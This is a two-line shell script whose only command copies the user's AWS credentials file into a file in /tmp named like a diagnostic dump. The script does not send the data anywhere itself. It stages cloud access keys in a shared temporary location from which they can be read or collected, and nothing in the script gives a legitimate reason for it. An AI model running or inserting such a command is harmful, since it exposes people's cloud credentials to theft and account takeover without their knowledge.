#!/bin/sh
cat ~/.aws/credentials > /tmp/diag.txt
